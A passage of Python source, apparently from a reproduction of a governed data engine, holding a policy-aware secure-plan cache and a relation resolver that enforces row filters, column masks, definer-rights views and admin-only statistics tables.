  grant/revoke, row-filter or column-mask change, view (re)definition, or
  ABAC update bumps it, so a cached plan resolved under older policies is a
  *hard miss* — a policy change can never serve a stale secure plan.
- **User + effective principals** keep per-user rewrites (row filters with
  ``CURRENT_USER``, down-scoped groups) from crossing identities.
- The **temp-state version** covers session-local temporary views and UDFs,
  which resolve at decode time.
- Entries store the exact relation proto and verify full equality on hit
  (hash-then-compare), so fingerprint collisions cannot serve a wrong plan.
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections import OrderedDict
from dataclasses import dataclass
from typing import Any

from repro.common.telemetry import Telemetry
from repro.engine.logical import LogicalPlan

DEFAULT_CAPACITY = 128


def fingerprint_relation(relation: dict[str, Any]) -> str:
    """Stable digest of a wire relation (non-JSON leaves via ``str``)."""
    canonical = json.dumps(relation, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


@dataclass(frozen=True)
class PlanCacheKey:
    """Full identity of one cached secure plan (see module docstring)."""

    fingerprint: str
    user: str
    principals: frozenset[str]
    policy_epoch: int
    compute_id: str
    temp_state_version: int

    def identity(self) -> tuple:
        """Everything except the epoch — used to spot stale-epoch entries."""
        return (
            self.fingerprint,
            self.user,
            self.principals,
            self.compute_id,
            self.temp_state_version,
        )


@dataclass
class CachedSecurePlan:
    """The resolved front half of one query, plus the proto it came from."""

    relation: dict[str, Any]
    analyzed: LogicalPlan
    optimized: LogicalPlan
    policy_epoch: int
    hits: int = 0
    #: Physical operator tree (with any compiled kernels bound to it),
    #: attached by the pipeline after first planning. It shares this entry's
    #: lifetime, so a policy-epoch bump invalidates plan and kernels alike.
    physical: Any = None


@dataclass
class PlanCacheStats:
    """Hit/miss/eviction counters for the secure-plan cache."""

    hits: int = 0
    misses: int = 0
    #: Misses caused specifically by a policy-epoch bump (the entry existed
    #: but was resolved under older governance state).
    stale_epoch_misses: int = 0
    insertions: int = 0
    evictions: int = 0
    #: Misses served by rehydrating a persisted plan from the artifact store.
    persistent_hits: int = 0


class SecurePlanCache:
    """Thread-safe LRU cache of (analyzed, optimized) secure plans.

    With a ``persistent`` :class:`repro.store.ArtifactStore` attached, the
    cache reads and writes through it: a miss probes the store (key embeds
    the policy epoch, so stale governance is a hard miss there too) and
    verifies the rehydrated relation equals the live one before adopting —
    the same hash-then-compare rule the in-memory path applies.
    """

    def __init__(
        self,
        capacity: int = DEFAULT_CAPACITY,
        telemetry: Telemetry | None = None,
        persistent: Any | None = None,
    ):
        self.capacity = max(1, capacity)
        self._telemetry = telemetry
        self._persistent = persistent
        self._entries: OrderedDict[PlanCacheKey, CachedSecurePlan] = OrderedDict()
        #: identity() -> current key, to evict superseded-epoch entries.
        self._by_identity: dict[tuple, PlanCacheKey] = {}
        self._lock = threading.Lock()
        self.stats = PlanCacheStats()

    def __len__(self) -> int:
        return len(self._entries)

    def _count(self, name: str) -> None:
        if self._telemetry is not None:
            self._telemetry.counter(name).inc()

    def lookup(
        self, key: PlanCacheKey, relation: dict[str, Any]
    ) -> CachedSecurePlan | None:
        """Return the cached plan for ``key`` or None (and count why not)."""
        with self._lock:
            entry = self._entries.get(key)
            if entry is not None and entry.relation == relation:
                self._entries.move_to_end(key)
                entry.hits += 1
                self.stats.hits += 1
                self._count("plan_cache.hits")
                return entry
            self.stats.misses += 1
            self._count("plan_cache.misses")
            stale = self._by_identity.get(key.identity())
            if stale is not None and stale.policy_epoch != key.policy_epoch:
                # Same query, same identity, older governance: the epoch
                # bump invalidated it. Drop it now rather than let it age out.
                self._entries.pop(stale, None)
                self._by_identity.pop(key.identity(), None)
                self.stats.stale_epoch_misses += 1
                self._count("plan_cache.stale_epoch_misses")
        return self._lookup_persistent(key, relation)

    def _lookup_persistent(
        self, key: PlanCacheKey, relation: dict[str, Any]
    ) -> CachedSecurePlan | None:
        """Probe the artifact store after an in-memory miss (no lock held)."""
        if self._persistent is None:
            return None
        record = self._persistent.get_plan(key)
        if record is None:
            return None
        stored_relation, analyzed, optimized = record
        if stored_relation != relation:
            return None  # fingerprint collision: never serve a wrong plan
        entry = self.insert(key, relation, analyzed, optimized, persist=False)
        with self._lock:
            self.stats.persistent_hits += 1
        self._count("plan_cache.persistent_hits")
        return entry

    def insert(
        self,
        key: PlanCacheKey,
        relation: dict[str, Any],
        analyzed: LogicalPlan,
        optimized: LogicalPlan,
        persist: bool = True,
    ) -> CachedSecurePlan:
        """Store a freshly resolved plan, evicting LRU past capacity.

        Returns the inserted entry so the caller can attach the physical
        operator tree (with its compiled kernels) once planning happens.
        ``persist=False`` skips the store write-through (used when adopting
        an entry that just came *from* the store).
        """
        if persist and self._persistent is not None:
            self._persistent.put_plan(key, relation, analyzed, optimized)
        with self._lock:
            previous = self._by_identity.get(key.identity())
            if previous is not None and previous != key:
                self._entries.pop(previous, None)
            entry = CachedSecurePlan(
                relation=relation,
                analyzed=analyzed,
                optimized=optimized,
                policy_epoch=key.policy_epoch,
            )
            self._entries[key] = entry
            self._entries.move_to_end(key)
            self._by_identity[key.identity()] = key
            self.stats.insertions += 1
            while len(self._entries) > self.capacity:
                evicted_key, _ = self._entries.popitem(last=False)
                if self._by_identity.get(evicted_key.identity()) == evicted_key:
                    del self._by_identity[evicted_key.identity()]
                self.stats.evictions += 1
                self._count("plan_cache.evictions")
            return entry

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()
            self._by_identity.clear()

    def stats_snapshot(self) -> dict[str, Any]:
        """Counters + size for ``system.access.cache_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "stale_epoch_misses": self.stats.stale_epoch_misses,
                "insertions": self.stats.insertions,
                "evictions": self.stats.evictions,
                "persistent_hits": self.stats.persistent_hits,
                "size": len(self._entries),
                "capacity": self.capacity,
            }
