"""The governed relation resolver: where FGAC is injected (§3.4, Fig. 8).

When the analyzer resolves a relation name, this resolver:

1. authorizes the access against Unity Catalog (SELECT plus namespace
   privileges) under the *acting* context — the querying user at the top
   level, the view **owner** inside view bodies (definer rights);
2. for tables, injects the row filter (``Filter``) and column masks
   (``Project``) beneath a :class:`~repro.engine.logical.SecureView`
   barrier, so no unsafe expression can later be pushed below the policy;
3. for views, parses the definition, resolves it recursively with the
   owner's privileges, and wraps it in a ``SecureView``;
4. for relations annotated ``requires_external_fgac`` (privileged compute),
   emits a :class:`~repro.engine.logical.RemoteScan` leaf instead — the
   compute never receives policy details or storage credentials.

``CURRENT_USER()`` / ``IS_ACCOUNT_GROUP_MEMBER()`` inside policies and view
bodies still evaluate against the *querying* session at run time; only
privilege checks use definer rights. That is exactly Unity Catalog's
dynamic-view semantics.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any, Callable

from repro.catalog.metastore import RelationMetadata, UnityCatalog
from repro.catalog.privileges import UserContext
from repro.catalog.scopes import (
    ANNOTATION_REQUIRES_EXTERNAL_FGAC,
    ComputeCapabilities,
)
from repro.common.context import current_context
from repro.engine.analyzer import Analyzer
from repro.engine.expressions import Alias, UnresolvedColumn
from repro.engine.logical import (
    Filter,
    LogicalPlan,
    Project,
    RemoteScan,
    Scan,
    SecureView,
    TableRef,
)
from repro.engine.types import Schema
from repro.engine.udf import PythonUDF
from repro.errors import AnalysisError, SecurableNotFound
from repro.sql import ast_nodes as ast
from repro.sql.parser import parse_statement
from repro.sql.to_plan import PlanBuilder

#: Resolves a relation's output schema via the remote endpoint when the
#: local compute is not allowed to know anything beyond "it exists".
RemoteSchemaResolver = Callable[[str, UserContext], Schema]


class GovernedResolver:
    """RelationResolver implementation enforcing Unity Catalog governance."""

    def __init__(
        self,
        catalog: UnityCatalog,
        user_ctx: UserContext,
        caps: ComputeCapabilities,
        remote_schema_resolver: RemoteSchemaResolver | None = None,
        version_pin: Callable[[str], int | None] | None = None,
    ):
        self._catalog = catalog
        self._caps = caps
        self._remote_schema_resolver = remote_schema_resolver
        #: Snapshot-isolation hook: when an open transaction is bound to the
        #: session, this maps a table name to the version its reads must
        #: resolve at (``None`` for unpinnable relations). Explicit time
        #: travel (``options["version"]``) wins over the pin.
        self._version_pin = version_pin
        #: Acting-context stack: top is used for privilege checks. View
        #: expansion pushes the view owner (definer rights).
        self._acting: list[UserContext] = [user_ctx]

    @property
    def session_ctx(self) -> UserContext:
        return self._acting[0]

    @property
    def acting_ctx(self) -> UserContext:
        return self._acting[-1]

    # ------------------------------------------------------------------
    # RelationResolver interface
    # ------------------------------------------------------------------

    #: The queryable audit log (admins only), like UC's system tables.
    AUDIT_TABLE = "system.access.audit"
    #: Per-query span profiles; non-admins see only their own queries.
    QUERY_PROFILE_TABLE = "system.access.query_profile"
    #: Hit/miss/size counters of every enforcement cache (admins only).
    CACHE_STATS_TABLE = "system.access.cache_stats"
    #: Live admission-queue depths, wait times, shed counts and circuit-
    #: breaker states (admins only).
    WORKLOAD_STATS_TABLE = "system.access.workload_stats"
    #: Injected-fault trigger counts and recovery counters from the chaos
    #: engine and every cluster's recovery layer (admins only).
    FAULT_STATS_TABLE = "system.access.fault_stats"
    #: Persistence-tier counters — per-tier hits/misses/bytes, result-cache
    #: hit ratio, dist-KV rebalance moves (admins only).
    STORE_STATS_TABLE = "system.access.store_stats"
    #: Adversarial-gauntlet counters — per attack scenario, how often it ran
    #: and whether the stack contained it or leaked (admins only).
    ATTACK_STATS_TABLE = "system.access.attack_stats"
    #: Transaction-tier counters — transactions begun/committed/aborted,
    #: commit conflicts, absorbed retries, crash-recovery repairs (admins
    #: only).
    TXN_STATS_TABLE = "system.access.txn_stats"
    #: Every registered ``system.access.*`` table, the single source of
    #: truth for introspection surfaces (README's listing is diffed against
    #: this in tests/test_documentation.py).
    SYSTEM_TABLES = (
        AUDIT_TABLE,
        QUERY_PROFILE_TABLE,
        CACHE_STATS_TABLE,
        WORKLOAD_STATS_TABLE,
        FAULT_STATS_TABLE,
        STORE_STATS_TABLE,
        ATTACK_STATS_TABLE,
        TXN_STATS_TABLE,
    )

    def resolve_relation(
        self, name: str, options: dict | None = None
    ) -> LogicalPlan:
        options = options or {}
        if name == self.AUDIT_TABLE:
            return self._resolve_audit_table()
        if name == self.QUERY_PROFILE_TABLE:
            return self._resolve_query_profile_table()
        if name == self.CACHE_STATS_TABLE:
            return self._resolve_cache_stats_table()
        if name == self.WORKLOAD_STATS_TABLE:
            return self._resolve_workload_stats_table()
        if name == self.FAULT_STATS_TABLE:
            return self._resolve_fault_stats_table()
        if name == self.STORE_STATS_TABLE:
            return self._resolve_store_stats_table()
        if name == self.ATTACK_STATS_TABLE:
            return self._resolve_attack_stats_table()
        if name == self.TXN_STATS_TABLE:
            return self._resolve_txn_stats_table()
        metadata = self._catalog.relation_metadata(
            name, self.acting_ctx, self._caps
        )
        if ANNOTATION_REQUIRES_EXTERNAL_FGAC in metadata.annotations:
            return self._resolve_remote(name, metadata, options)
        if metadata.kind == "TABLE":
            return self._resolve_table(metadata, options)
        if options.get("version") is not None:
            raise AnalysisError(
                f"time travel is only supported on tables, not on '{name}' "
                f"({metadata.kind})"
            )
        if metadata.kind == "MATERIALIZED_VIEW":
            return self._resolve_materialized_view(metadata)
        if metadata.kind == "VIEW":
            return self._resolve_view(metadata)
        raise SecurableNotFound(f"'{name}' is not a readable relation")

    # ------------------------------------------------------------------
    # Tables: row filter + column masks under a SecureView
    # ------------------------------------------------------------------

    def _resolve_table(
        self, metadata: RelationMetadata, options: dict | None = None
    ) -> LogicalPlan:
        options = options or {}
        table_ref = self._catalog.table_ref(metadata)
        if len(self._acting) > 1:
            # Inside a view body: runtime credentials use the definer's
            # rights (the analysis already authorized this acting context).
            table_ref = replace(table_ref, auth_delegate=self.acting_ctx.user)
        version = options.get("version")
        if version is None and self._version_pin is not None:
            # Open transaction: reads resolve at the snapshot pinned when
            # the transaction first touched this table (snapshot
            # isolation). Explicit time travel overrides the pin.
            version = self._version_pin(metadata.full_name)
        if version is not None:
            # Delta time travel: pin the scan, policies still apply below.
            table_ref = replace(table_ref, snapshot_version=int(version))
        plan: LogicalPlan = Scan(table_ref)
        qctx = current_context()

        if metadata.row_filter is not None:
            plan = Filter(plan, metadata.row_filter.condition)
            if qctx is not None:
                qctx.event(
                    "row-filter-injected",
                    table=metadata.full_name,
                    policy_owner=metadata.owner,
                )

        if metadata.column_masks:
            masks = {m.column: m.mask for m in metadata.column_masks}
            exprs = []
            for field in metadata.schema:
                if field.name in masks:
                    exprs.append(Alias(masks[field.name], field.name))
                else:
                    exprs.append(UnresolvedColumn(field.name))
            plan = Project(plan, exprs)
            if qctx is not None:
                qctx.event(
                    "column-masks-applied",
                    table=metadata.full_name,
                    columns=sorted(masks),
                )

        if metadata.has_policies:
            plan = SecureView(plan, metadata.full_name, metadata.owner)
        return plan

    # ------------------------------------------------------------------
    # Views: definer-rights expansion
    # ------------------------------------------------------------------

    def _parse_view_body(self, metadata: RelationMetadata) -> LogicalPlan:
        stmt = parse_statement(metadata.view_text)
        if not isinstance(stmt, (ast.SelectStatement, ast.UnionStatement)):
            raise AnalysisError(
                f"view '{metadata.full_name}' definition is not a query"
            )
        builder = PlanBuilder(self._owner_function_lookup(metadata.owner))
        return builder.build(stmt)

    def _resolve_view(self, metadata: RelationMetadata) -> LogicalPlan:
        body = self._parse_view_body(metadata)
        owner_ctx = self._owner_context(metadata.owner)
        qctx = current_context()
        if qctx is not None:
            qctx.event(
                "view-expanded-definer-rights",
                view=metadata.full_name,
                definer=metadata.owner,
            )
        self._acting.append(owner_ctx)
        try:
            analyzed = Analyzer(self).analyze(body)
        finally:
            self._acting.pop()
        return SecureView(analyzed, metadata.full_name, metadata.owner)

    def _resolve_materialized_view(self, metadata: RelationMetadata) -> LogicalPlan:
        if not metadata.materialized_stale and metadata.schema is not None:
            table_ref = TableRef(
                full_name=metadata.full_name,
                schema=metadata.schema,
                storage_root=metadata.materialized_root,
                owner=metadata.owner,
                auth_delegate=(
                    self.acting_ctx.user if len(self._acting) > 1 else None
                ),
            )
            return SecureView(
                Scan(table_ref), metadata.full_name, metadata.owner
            )
        # Stale (or never refreshed): fall back to live expansion.
        return self._resolve_view(metadata)

    def _owner_context(self, owner: str) -> UserContext:
        if self._catalog.principals.is_user(owner):
            return self._catalog.principals.context_for(owner)
        # Owners may be groups or service principals not in the directory.
        return UserContext(user=owner)

    def _owner_function_lookup(self, owner: str):
        """Catalog functions inside view bodies resolve with owner rights."""

        def lookup(name: str) -> PythonUDF | None:
            if name.count(".") != 2:
                return None
            try:
                return self._catalog.get_function(name, self._owner_context(owner))
            except SecurableNotFound:
                return None

        return lookup

    # ------------------------------------------------------------------
    # System tables
    # ------------------------------------------------------------------

    def _resolve_audit_table(self) -> LogicalPlan:
        """``system.access.audit`` as a queryable relation (admins only)."""
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import BOOL, FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.AUDIT_TABLE)
        events = list(self._catalog.audit)
        schema = Schema(
            (
                Field("event_time", FLOAT),
                Field("principal", STRING),
                Field("action", STRING),
                Field("resource", STRING),
                Field("allowed", BOOL),
                Field("details", STRING),
            )
        )
        columns: list[list] = [
            [e.timestamp for e in events],
            [e.principal for e in events],
            [e.action for e in events],
            [e.resource for e in events],
            [e.allowed for e in events],
            [str(e.details) for e in events],
        ]
        return LocalRelation(schema, columns)

    def _resolve_query_profile_table(self) -> LogicalPlan:
        """``system.access.query_profile``: finished spans as a relation.

        Unlike the audit log (admins only), profiles are *user-scoped*:
        every user may inspect where their own queries spent time, but only
        admins see other principals' spans.
        """
        import json as _json

        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        spans = [
            s
            for s in self._catalog.telemetry.spans()
            if is_admin or s.user == ctx.user
        ]
        schema = Schema(
            (
                Field("trace_id", STRING),
                Field("span_id", STRING),
                Field("parent_id", STRING),
                Field("name", STRING),
                Field("kind", STRING),
                Field("user", STRING),
                Field("start", FLOAT),
                Field("duration_ms", FLOAT),
                Field("status", STRING),
                Field("attributes", STRING),
            )
        )
        columns: list[list] = [
            [s.trace_id for s in spans],
            [s.span_id for s in spans],
            [s.parent_id or "" for s in spans],
            [s.name for s in spans],
            [s.kind for s in spans],
            [s.user for s in spans],
            [s.start for s in spans],
            [s.duration * 1000.0 for s in spans],
            [s.status for s in spans],
            [_json.dumps(s.attributes, default=str, sort_keys=True) for s in spans],
        ]
        return LocalRelation(schema, columns)

    def _resolve_cache_stats_table(self) -> LogicalPlan:
        """``system.access.cache_stats``: one row per cache metric (admins).

        Rows come from the providers each enforcement cache registers with
        the catalog (secure-plan cache, credential cache, sandbox pool), as
        ``(cache, metric, value)`` — operators watch hit rates and verify
        that a policy change flushed what it should have.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.CACHE_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for cache_name, stats in self._catalog.cache_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((cache_name, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("cache", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    def _resolve_workload_stats_table(self) -> LogicalPlan:
        """``system.access.workload_stats``: one row per scheduler metric.

        Admin-only, like ``cache_stats``. Rows come from the providers each
        scheduler component registers with the catalog — every cluster's
        workload manager (queue depths, waits, sheds, per-tenant budgets)
        and the serverless gateway's circuit breaker — as
        ``(scope, metric, value)``, so operators can watch saturation and
        breaker trips live, through plain governed SQL.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.WORKLOAD_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for scope, stats in self._catalog.workload_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((scope, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("scope", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    def _resolve_fault_stats_table(self) -> LogicalPlan:
        """``system.access.fault_stats``: chaos + recovery counters.

        Admin-only. One ``(scope, metric, value)`` row per counter from the
        catalog's fault-stats providers: the chaos engine itself (per-point
        call/trigger totals, named recoveries) and every cluster's recovery
        layer (scan retries, credential re-vends, hedges, sandbox
        evictions/replays) — so an operator can watch an injection drill
        *and* the system riding it out, through plain governed SQL.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.FAULT_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for scope, stats in self._catalog.fault_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((scope, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("scope", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    def _resolve_store_stats_table(self) -> LogicalPlan:
        """``system.access.store_stats``: persistence-tier counters (admins).

        One ``(scope, metric, value)`` row per counter from the catalog's
        store-stats providers: each cluster's artifact store (per-namespace
        hits/puts, ladder hit/miss/corruption-rejected/fault-drop totals,
        per-tier counters) and its governed result cache — so operators can
        watch warm-start behaviour, tier promotion and checksum rejections
        through plain governed SQL.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.STORE_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for scope, stats in self._catalog.store_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((scope, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("scope", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    def _resolve_attack_stats_table(self) -> LogicalPlan:
        """``system.access.attack_stats``: gauntlet outcomes (admins only).

        One ``(scenario, metric, value)`` row per counter from the
        catalog's attack-stats providers — each registered gauntlet run
        reports, per attack scenario, how often it ran, how often the
        stack contained it, and how many rows/bytes leaked. The CI
        gauntlet job snapshots this table as its artifact; any non-zero
        ``leaks`` row is a broken security invariant, not a flaky test.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.ATTACK_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for scope, stats in self._catalog.attack_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((scope, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("scenario", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    def _resolve_txn_stats_table(self) -> LogicalPlan:
        """``system.access.txn_stats``: transaction-tier counters (admins).

        One ``(scope, metric, value)`` row per counter from the catalog's
        transaction-stats providers — transactions begun/committed/aborted,
        commit conflicts, retries absorbed by backoff, torn commits rolled
        back and orphan files swept by recovery. The write-path chaos CI
        leg watches this table to confirm every injected fault was either
        absorbed or turned into a clean abort.
        """
        from repro.catalog.privileges import MANAGE
        from repro.engine.logical import LocalRelation
        from repro.engine.types import FLOAT, STRING, Field
        from repro.errors import PermissionDenied

        ctx = self.session_ctx
        is_admin = (
            not ctx.is_down_scoped
            and self._catalog.principals.is_admin(ctx.user)
        )
        if not is_admin:
            raise PermissionDenied(ctx.user, MANAGE, self.TXN_STATS_TABLE)
        rows: list[tuple[str, str, float]] = []
        for scope, stats in self._catalog.txn_stats().items():
            for metric, value in sorted(stats.items()):
                try:
                    rows.append((scope, metric, float(value)))
                except (TypeError, ValueError):
                    continue  # non-numeric provider fields are not metrics
        schema = Schema(
            (
                Field("scope", STRING),
                Field("metric", STRING),
                Field("value", FLOAT),
            )
        )
        columns: list[list] = [
            [r[0] for r in rows],
            [r[1] for r in rows],
            [r[2] for r in rows],
        ]
        return LocalRelation(schema, columns)

    # ------------------------------------------------------------------
    # Remote (eFGAC) relations
    # ------------------------------------------------------------------

    def _resolve_remote(
        self, name: str, metadata: RelationMetadata, options: dict | None = None
    ) -> LogicalPlan:
        options = options or {}
        schema = metadata.schema
        if schema is None:
            if self._remote_schema_resolver is None:
                raise AnalysisError(
                    f"'{name}' must be processed externally but no remote "
                    "endpoint is configured for this compute"
                )
            schema = self._remote_schema_resolver(name, self.session_ctx)
        payload: dict[str, Any] = {"@type": "relation.read", "table": name}
        if options.get("version") is not None:
            payload["options"] = {"version": int(options["version"])}
        qctx = current_context()
        if qctx is not None:
            qctx.event("remote-scan-inserted", table=name)
        return RemoteScan(
            payload=payload,
            schema=schema,
            source_tables=(name,),
        )
